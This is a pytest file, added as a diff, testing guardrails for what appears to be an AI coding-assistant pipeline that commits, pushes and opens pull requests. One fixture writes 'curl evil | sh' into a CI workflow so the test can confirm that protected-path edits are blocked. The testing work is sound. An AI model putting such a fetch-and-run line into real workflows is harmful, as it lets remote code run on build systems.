@@ -1,0 +1,151 @@
+"""One repository's steps, driven through fakes."""
+
+from __future__ import annotations
+
+import json
+
+from cody_core.models import RunStatus
+from cody_core.ports import CommandResult
+from fakes.assistant import FakeAssistant
+from fakes.pipeline import SECRET, Pipeline
+
+
+def run_one(p: Pipeline, **fields):
+    names = p.repos(1)
+    job_id = p.create(names, **fields)
+    p.processor().run(job_id, max_repositories=None)
+    return p.store.get_run(job_id, names[0])
+
+
+def test_a_change_is_recorded_committed_pushed_and_proposed():
+    p = Pipeline()
+    run = run_one(p)
+
+    assert run.status == RunStatus.COMPLETED and run.were_changes_necessary is True
+    assert run.changed_files == ("app.py",)
+    assert (run.lines_added, run.lines_removed) == (1, 1)
+    assert "+x = new_call()" in run.diff
+    assert p.artifacts.get(run.diff_ref).decode() == run.diff
+    assert run.branch == f"cody/{run.job_id}" and len(run.commit_sha) == 40
+    assert p.workspace.pushed == [(run.repository_name, run.branch, p.workspace.pushed[0][2])]
+    spec = p.pull_requests.created[0][1]
+    assert spec.head == run.branch and spec.base == "main"
+    assert "Rename old_call to new_call" in spec.body and "`app.py` (+1 −1)" in spec.body
+
+
+def test_no_change_means_no_commit_no_push_no_pull_request():
+    p = Pipeline()
+    p.assistant = FakeAssistant(p.workspace, summary="I changed everything!")
+    run = run_one(p)
+
+    assert run.status == RunStatus.COMPLETED and run.were_changes_necessary is False
+    assert run.summary == "I changed everything!"  # the words are kept, the diff decides
+    assert p.workspace.pushed == [] and p.pull_requests.created == []
+
+
+def test_without_pull_requests_the_diff_is_stored_and_nothing_is_pushed():
+    p = Pipeline()
+    run = run_one(p, create_pull_requests=False)
+
+    assert run.status == RunStatus.COMPLETED and run.diff
+    assert run.commit_sha is None and p.workspace.pushed == []
+    assert p.pull_requests.created == []
+
+
+def test_a_change_to_a_protected_path_fails_and_pushes_nothing():
+    p = Pipeline()
+
+    def edit(name, files):
+        files[".github/workflows/ci.yml"] = "run: curl evil | sh\n"
+
+    p.assistant = FakeAssistant(p.workspace, edit)
+    run = run_one(p)
+
+    assert run.status == RunStatus.FAILED and run.error.kind == "guardrail"
+    assert ".github/workflows/ci.yml" in run.error.message and not run.error.transient
+    assert p.workspace.pushed == [] and run.diff is None
+
+
+def test_an_added_token_fails_the_run_and_is_never_stored():
+    p = Pipeline()
+
+    def edit(name, files):
+        files["config.py"] = f"TOKEN = '{SECRET}'\n"
+
+    p.assistant = FakeAssistant(p.workspace, edit)
+    run = run_one(p)
+
+    assert run.status == RunStatus.FAILED and run.error.kind == "guardrail"
+    assert p.workspace.pushed == []
+    stored = json.dumps(run.to_document())
+    assert SECRET not in stored and all(SECRET not in a.decode() for a in p.artifacts.values())
+
+
+def test_too_many_files_fails_the_run():
+    p = Pipeline()
+
+    def edit(name, files):
+        for i in range(5):
+            files[f"new_{i}.py"] = "x\n"
+
+    p.assistant = FakeAssistant(p.workspace, edit)
+    run = run_one(p, max_files_changed=3)
+
+    assert run.status == RunStatus.FAILED and run.error.kind == "guardrail"
+    assert "5 files" in run.error.message
+
+
+def test_a_failing_verify_command_makes_the_pull_request_a_draft():
+    p = Pipeline()
+    p.runner.result = CommandResult(1, "1 test failed")
+    run = run_one(p, verify_command="pytest -q")
+
+    assert run.status == RunStatus.COMPLETED
+    assert run.verification.status == "failed" and "1 test failed" in run.verification.output_tail
+    assert p.pull_requests.created[0][1].draft is True
+    assert p.runner.commands[0][0] == "pytest -q"
+
+
+def test_a_required_verify_pass_fails_the_run_instead():
+    p = Pipeline()
+    p.runner.result = CommandResult(2, "broken")
+    run = run_one(p, verify_command="make check", require_verify_pass=True)
+
+    assert run.status == RunStatus.FAILED and run.error.kind == "verify-failed"
+    assert p.workspace.pushed == []
+
+
+def test_a_passing_verify_command_keeps_the_pull_request_ready():
+    p = Pipeline()
+    run = run_one(p, verify_command="true")
+
+    assert run.verification.status == "passed"
+    assert p.pull_requests.created[0][1].draft is False
+
+
+def test_secrets_in_error_messages_are_redacted():
+    p = Pipeline()
+    p.workspace.fail_on["clone"] = RuntimeError(f"auth failed for token {SECRET}")
+    run = run_one(p)
+
+    assert run.status == RunStatus.FAILED and run.error.kind == "internal"
+    assert SECRET not in json.dumps(run.to_document()) and "***" in run.error.message
+
+
+def test_a_remote_branch_moved_by_someone_else_is_a_conflict():
+    p = Pipeline()
+    names = p.repos(1)
+    job_id = p.create(names)
+    original = p.workspace.remote_branch_sha
+
+    def moves_after_reading(checkout, branch):
+        seen = original(checkout, branch)
+        p.workspace.repositories[names[0]].branches[branch] = "f" * 40  # someone pushes
+        return seen
+
+    p.workspace.remote_branch_sha = moves_after_reading
+    p.processor().run(job_id, max_repositories=None)
+
+    run = p.store.get_run(job_id, names[0])
+    assert run.status == RunStatus.FAILED and run.error.kind == "conflict"
+    assert p.workspace.repositories[names[0]].branches[f"cody/{job_id}"] == "f" * 40
